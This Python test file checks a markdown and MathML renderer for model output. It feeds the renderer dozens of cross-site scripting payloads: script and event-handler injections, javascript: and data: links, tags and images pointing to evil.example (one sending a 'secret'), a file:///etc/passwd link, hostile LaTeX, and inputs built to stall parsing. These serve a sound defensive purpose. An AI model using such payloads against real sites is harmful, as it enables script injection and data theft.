import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from evalhub.display import formulas
from evalhub.display.code_colours import CLASSES, LANGUAGES
from evalhub.display.markup import model_markdown

FOCUSED = {"tabindex": "0"}
TAGS = {
    *("p", "br", "hr", "blockquote", "pre", "code", "em", "strong", "a", "ul", "ol", "li"),
    *("h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"),
}


class Opened(HTMLParser):
    """Every tag of a page with its attributes, as a browser would see them."""

    def __init__(self, html):
        super().__init__()
        self.tags = []
        self.feed(html)

    def handle_starttag(self, tag, attributes):
        self.tags.append((tag, dict(attributes)))


class Texts(HTMLParser):
    """The text of a page, without its tags."""

    def __init__(self, html):
        super().__init__()
        self.text = ""
        self.feed(html)

    def handle_data(self, data):
        self.text += data


def opened(text):
    return Opened(model_markdown(text)).tags


def html(text):
    return model_markdown(text)


def harmless(tag, attributes):
    if tag == "a":
        href = attributes.pop("href", "https://")
        away = href.lower().startswith(("http://", "https://", "mailto:"))
        return away and attributes == {"rel": "noopener nofollow noreferrer"}
    if tag == "code" and attributes:
        return set(attributes) == {"class"} and attributes["class"].startswith("language-")
    if tag == "ol" and attributes:
        return set(attributes) == {"start"} and attributes["start"].isdigit()
    if tag in ("pre", "table"):
        return attributes == FOCUSED
    if tag == "span":
        return set(attributes) == {"class"} and attributes["class"] in CLASSES.values()
    if tag in formulas.TAGS:
        return all(harmless_value(name, value) for name, value in attributes.items())
    return tag in TAGS and not attributes


def harmless_value(name, value):
    """Of MathML: no attribute that runs, loads, colours, links or positions anything."""
    if name in ("minsize", "maxsize", "width"):
        return re.fullmatch(r"-?\d{0,2}(\.\d+)?em", value) is not None
    words = {"block", "inline", "box", "updiagonalstrike", "downdiagonalstrike", "0", "normal"}
    return set(value.split()) <= words | {"true", "false", "left", "right", "center"}


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("**bold** and *soft*", "<p><strong>bold</strong> and <em>soft</em></p>\n"),
        ("one\ntwo", "<p>one<br>\ntwo</p>\n"),
        ("# Title", "<h1>Title</h1>\n"),
        ("3. three\n4. four", '<ol start="3">\n<li>three</li>\n<li>four</li>\n</ol>\n'),
        (
            "```c++\na < b\n```",
            '<pre tabindex="0"><code class="language-c++">a &lt; b\n</code></pre>\n',
        ),
        ("&lt;b&gt; & <b>", "<p>&lt;b&gt; &amp; &lt;b&gt;</p>\n"),
        (
            "[x](https://example.org/a?b=c)",
            '<p><a href="https://example.org/a?b=c" rel="noopener nofollow noreferrer">x</a></p>\n',
        ),
        ("![a <b>cat</b>](https://x.org/cat.png 'title')", "<p>a &lt;b&gt;cat&lt;/b&gt;</p>\n"),
    ],
)
def test_markdown_is_shown_as_written(text, expected):
    assert html(text) == expected


def test_table_has_no_styles_and_text_twenty_quotes_deep_is_still_shown():
    assert "<th>a</th>" in html("| a | b |\n|:-:|--:|\n| 1 | 2 |")
    assert "hidden" in html(">" * 30 + " hidden")


@pytest.mark.parametrize(
    "payload",
    [
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js></sCrIpT>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mtext></p><img src onerror=alert(1)>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        '<div x-data="{}" x-init="alert(1)">x</div>',
        "<p @click=alert(1) :class=x>x</p>",
        "<a href='javascript:alert(1)'>x</a>",
        "<form action=/admin/logout/><button>x</button></form>",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<style>@import '//evil.example'</style>",
        "<textarea></p><script>alert(1)</script>",
        "<!--><script>alert(1)</script>-->",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt&colon;alert(1))",
        "[x](java\tscript:alert(1))",
        "[x](vbscript:msgbox)",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x](file:///etc/passwd)",
        "[x](/admin/logout/)",
        "[x](//evil.example)",
        "[x](\\\\evil.example)",
        "[x](?next=1)",
        '[x](https://x.org" onmouseover="alert(1))',
        "[x](https://x.org 'a\" onmouseover=\"alert(1)')",
        "<javascript:alert(1)>",
        "![x](https://evil.example/?q=secret)",
        "![x](javascript:alert(1))",
        "![<img src=x onerror=alert(1)>](x)",
        "[![x](https://evil.example/a.png)](javascript:alert(1))",
        "[x]: javascript:alert(1)\n\n[x]",
        '```html" x-data="alert(1)\nx\n```',
        '```x-data="alert(1)"\nx\n```',
        '``` a" onclick="alert(1)\nx\n```',
        "|a|\n|-|\n|<img src=x onerror=alert(1)>|",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "\\<script>alert(1)\\</script>",
        "<\x00script>alert(1)</script>",
        "<scr\u200bipt>alert(1)</script>",
        "# <img src=x onerror=alert(1)>",
        "{{ constructor.constructor('alert(1)')() }} <b x-text=alert(1)>",
    ],
)
def test_payload_opens_only_harmless_tags(payload):
    assert [tag for tag in opened(payload) if not harmless(*tag)] == []


def test_link_elsewhere_leads_nowhere_and_image_loads_nothing():
    for target in ("javascript:alert(1)", "/admin/", "//evil.example", "#x", "data:,x"):
        assert "href" not in html(f"[x]({target})"), target
    assert "evil.example" not in html("![x](https://evil.example/?q=secret)")


@given(
    st.lists(
        st.sampled_from(
            [*"<>[]()!`*_#|-&;:/\\\"'= \n", "script", "a", "x-data", "onclick", "http://x", "```"]
        )
        | st.text(max_size=2)
    )
)
def test_any_text_opens_only_harmless_tags(pieces):
    assert [tag for tag in opened("".join(pieces)) if not harmless(*tag)] == []


def test_long_text_is_cut_and_says_so():
    html = model_markdown("x" * 1234, limit=1000)
    assert html.endswith("<p><em>Cut here: 1,000 of 1,234 characters are shown.</em></p>\n")
    assert model_markdown("x" * 1000, limit=1000) == "<p>" + "x" * 1000 + "</p>\n"


@pytest.mark.parametrize(
    "text", ["[" * 20_000, "![" * 10_000, "|a" * 100 + "\n" + "|-" * 100 + "\n" + "|\n" * 9000]
)
def test_text_that_is_made_to_take_long_is_shown_as_it_is(text):
    shown = html(text)

    assert opened(text) == [("pre", FOCUSED)]
    assert len(shown) < 2 * len(text)


def test_a_long_table_and_many_links_are_still_read():
    table = "|a|b|c|d|\n|-|-|-|-|\n" + "|1|2|3|4|\n" * 1000
    assert opened(table)[0] == ("table", FOCUSED)
    assert len(opened("[a](https://b.c) " * 1000)) == 1001


@pytest.mark.parametrize("formula", [r"\(x_1\)", r"\[x_1\]", "$x_1$", "$$x_1$$", "$$\nx_1\n$$"])
def test_formula_is_mathml(formula):
    shown = html(f"So\n{formula}\nfollows *once*.")

    assert "<msub><mi>x</mi><mn>1</mn></msub>" in shown
    assert "follows <em>once</em>." in shown


def test_lines_of_a_formula_are_no_list_and_lose_nothing():
    shown = html("\\[\na\n- b\n\\]\nafter")
    assert "<li>" not in shown
    assert "after" in shown
    assert "tail" in html(r"\[x\] tail")


def test_a_boxed_number_and_aligned_lines_are_rendered():
    assert '<menclose notation="box">' in html(r"$\boxed{42}$")
    assert html(r"$$\begin{aligned}a&=b\\c&=d\end{aligned}$$").count("<mtr>") == 2


@pytest.mark.parametrize(
    "text",
    [
        "It costs $5 and $7.",
        "It costs $5 (or $6) plus tax ($1).",
        "$5/$7, US$5, CA$7, 5$, 6$",
        "$HOME/$USER and $PATH",
        "$ 5 and 7 $",
        r"\$a\$",
        "a lone $ sign",
    ],
)
def test_prices_and_names_are_no_formulas(text):
    assert html(text) == f"<p>{text.replace(chr(92), '')}</p>\n"


def test_formula_in_code_stays_code():
    assert html("`$a$`") == "<p><code>$a$</code></p>\n"


@pytest.mark.parametrize("formula", [r"$\frac$", r"$\unheardof x$", r"\(\left( x\)", "$x^2^3$"])
def test_formula_not_understood_is_shown_as_its_source(formula):
    assert f"<code>{formula}</code>" in html(formula)


@pytest.mark.parametrize(
    "latex",
    [
        r"\href{javascript:alert(1)}{x}",
        r"\style{position:fixed}{x}",
        r"\class{eh-button}{x}",
        r"\color{white}{x}",
        r"\rule{9999em}{9999em}",
        r"\text{<script>alert(1)</script>}",
        r"\text{<img src=x onerror=alert(1)>}",
        r"\mathrm{<style>}",
        r"\unicode{<b>}",
        r"x\label{a}\ref{a}",
    ],
)
def test_hostile_formula_opens_only_harmless_tags(latex):
    found = [*opened(f"${latex}$"), *opened(f"$${latex}$$")]
    assert [tag for tag in found if not harmless(*tag)] == []


def test_text_of_a_phantom_is_shown():
    assert "<mi>z</mi>" in html(r"$\phantom{z}$")


@pytest.mark.parametrize(
    "unit",
    [
        *(r"\(", r"\[", "$", "$$", "$a", r"\$", r"$a\$ ", "$x$ ", "$'$ ", "\\[x\n", "\n$$\n"),
        *(r"\frac{", "{", r"x^{", r"\left(", r"\begin{align*}", r"\sqrt ", "x[", "$$\\(", "\\"),
    ],
)
def test_100_kb_of_hostile_formulas_are_shown_in_a_moment(unit):
    started = time.process_time()
    for text in (unit * 50_000, f"${unit * 900}$", f"$${unit * 50_000}$$"):
        assert model_markdown(text)
    assert time.process_time() - started < 6


@pytest.mark.parametrize("language", sorted(LANGUAGES))
def test_hostile_code_is_shown_in_a_moment(language):
    started = time.process_time()
    for unit in ("\n", "a\n", "\\\n", '"', '"\\', "/*", "//", "a.a.", "<a ", "{", "0", " \n", "$("):
        text = (unit * 20_000)[:20_000]
        fenced = f"```{language}\n{(unit * 4000)[:3990]}\n```\n"
        assert html(fenced)
        assert html(f"```{language}\n{text}\n```")
    assert time.process_time() - started < 12


def test_code_is_coloured_and_stays_the_same_text():
    code = "\n\ndef f(x):\n\treturn 'a' + 1  # <b>\n"
    shown = html(f"```python\n{code}```")

    assert '<span class="eh-code-keyword">def</span>' in shown
    assert Texts(shown).text.strip("\n") == code.strip("\n")


@given(st.text(alphabet="${}\\()[]^_&x1 \nfract'\"<>`#-|", max_size=60))
def test_any_formula_opens_only_harmless_tags(text):
    for written in (text, f"${text}$", rf"\({text}\)", f"$$\n{text}\n$$"):
        assert [tag for tag in opened(written) if not harmless(*tag)] == []


def test_a_line_right_below_a_table_is_no_row_of_it():
    shown = html("|a|b|\n|-|-|\n|1|2|\n3 | 4\nHow many?")

    assert shown.count("<tr>") == 3
    assert shown.endswith("<p>How many?</p>\n")


def test_pieces_that_are_replaced_later_stay_in_one_piece():
    assert model_markdown("$a_1$", has_formulas=False) == "<p>$a_1$</p>\n"
